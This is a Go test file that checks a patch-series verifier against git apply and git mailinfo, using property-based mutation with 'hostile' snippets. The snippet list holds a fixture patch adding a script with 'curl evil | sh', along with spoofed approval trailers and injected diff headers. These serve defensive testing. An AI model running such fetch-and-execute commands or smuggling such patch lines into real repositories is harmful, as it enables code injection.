package repocheck

import (
	"github.com/git-bernstein/git-bernstein/internal/hostilepatch"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// snippets are lines and line groups a hostile part may slip in: patch starts git's apply.c recognises
// (traditional diffs, "diff --git", hunks, binary markers, combined diffs), header lines, mail headers and
// trailers, signatures and blanks.
var snippets = []string{
	traditional,
	"--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n",
	"--- a/setup.py\n+++ b/setup.py\n@@ -7,2 +7,3 @@\n )\n # end\n+import os\n",
	"diff --git a/README b/README\n", "diff --git a/evil b/evil\nnew file mode 100644\n",
	"diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n app\n-version 2\n+pwned\n",
	"diff --cc README\n", "@@ -1 +1 @@\n", "@@ -1,2 +1,2 @@\n", "+pwned\n", "-app\n", " app\n", "\n", " \n",
	"-- \n", "-- \ngit-bernstein v9\n", "\\ No newline at end of file\n",
	"Binary files a/data.bin and b/data.bin differ\n", "GIT binary patch\n", "literal 0\nHcmV?d00001\n\n",
	"index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n",
	"new mode 100755\n", "old mode 100644\n", "rename from README\n", "rename to README.md\n", "similarity index 90%\n",
	"deleted file mode 100644\n", "new file mode 100644\n",
	"From: Eve Evil <eve@example.com>\n", "Subject: [PATCH] innocent\n", "Approved-by: CISO <ciso@example.com>\n",
	"---\n", "Index: README\n", "hello\n",
}

// TestDifferentialWithGit holds our check to git's: for the red team's parts and for random variants of a
// part (lines inserted from snippets, deleted, duplicated, replaced, bytes changed), whenever our check
// passes, `git apply --cached` of the part on the commit's parent makes exactly the commit's tree, `git
// mailinfo` (what git am records: author, email, date, subject, message) reads the same as from the unedited
// part, and git apply of the patch mailinfo cuts out (what git am applies) makes the commit's tree too. Our check may fail a part git takes (it is stricter), never the reverse.
func TestDifferentialWithGit(t *testing.T) {
	if testing.Short() {
		t.Skip("runs git for each variant our check passes")
	}
	f := newFixture(t)
	start, end := f.part2()
	orig := f.series[start:end]
	wantTree := f.r.Git("rev-parse", f.commits[1]+"^{tree}")
	wantInfo, _ := mailinfo(t, f, orig)
	same := func(part string) (bool, string) {
		tree, ok := gitApply(t, f.r, f.commits[1], part)
		if !ok {
			return false, "git apply --cached on the parent fails"
		}
		if tree != wantTree {
			return false, "git apply --cached on the parent makes tree " + tree + ", the commit's is " + wantTree
		}
		info, cut := mailinfo(t, f, part)
		if info != wantInfo {
			return false, "git mailinfo reads\n" + info + "\nnot\n" + wantInfo
		}
		if tree, ok := gitApply(t, f.r, f.commits[1], cut); !ok || tree != wantTree {
			return false, "git apply --cached of the patch git mailinfo cuts from it (git am's) fails or makes tree " + tree
		}
		return true, ""
	}
	for _, c := range hostileCases {
		edited := c.edit(f)
		if verdict(f.check(edited)) == "PASS" {
			part := edited[start : len(edited)-(len(f.series)-end)]
			if ok, why := same(part); !ok {
				t.Errorf("%s: our check passes, but %s", c.name, why)
			}
		}
	}
	passed, caught, stricter, gitRejects := 0, 0, 0, 0
	rapid.Check(t, func(rt *rapid.T) {
		lines := strings.SplitAfter(orig, "\n")
		lines = lines[:len(lines)-1] // the empty string after the last "\n"
		for range rapid.IntRange(1, 3).Draw(rt, "edits") {
			at := rapid.IntRange(1, len(lines)-1).Draw(rt, "line") // never the From line
			lines = hostilepatch.EditLine(rt, rapid.IntRange(0, 4).Draw(rt, "op"), lines, at, snippets, "\n -+@a0/\\")
		}
		part := strings.Join(lines, "")
		res := f.check(f.series[:start] + part + f.series[end:])
		ok, why := same(part)
		if verdict(res) != "PASS" {
			if ok {
				stricter++
			} else if strings.HasPrefix(why, "git apply --cached on the parent fails") {
				gitRejects++
			} else {
				caught++
			}
			return
		}
		passed++
		if !ok {
			rt.Fatalf("our check passes the part, but %s\n%s", why, part)
		}
	})
	t.Logf("variants: %d passed (git agrees on each); failed: %d that git applies with another tree or message, %d that git applies as the commit (stricter), %d git rejects",
		passed, caught, stricter, gitRejects)
}

// mailinfo is what git am reads from a part's mail: `git mailinfo`'s author, email, subject and date, and the
// message; and the patch it cuts out, which git am applies.
func mailinfo(t *testing.T, f *fixture, part string) (info, patch string) {
	t.Helper()
	dir := t.TempDir()
	cmd := exec.Command("git", "mailinfo", filepath.Join(dir, "msg"), filepath.Join(dir, "patch"))
	cmd.Dir, cmd.Env, cmd.Stdin = f.r.Dir, f.r.Env, strings.NewReader(part)
	out, err := cmd.Output()
	if err != nil {
		return "mailinfo fails: " + err.Error(), ""
	}
	msg, err := os.ReadFile(filepath.Join(dir, "msg"))
	if err != nil {
		t.Fatal(err)
	}
	cut, err := os.ReadFile(filepath.Join(dir, "patch"))
	if err != nil {
		t.Fatal(err)
	}
	return string(out) + "\n" + string(msg), string(cut)
}
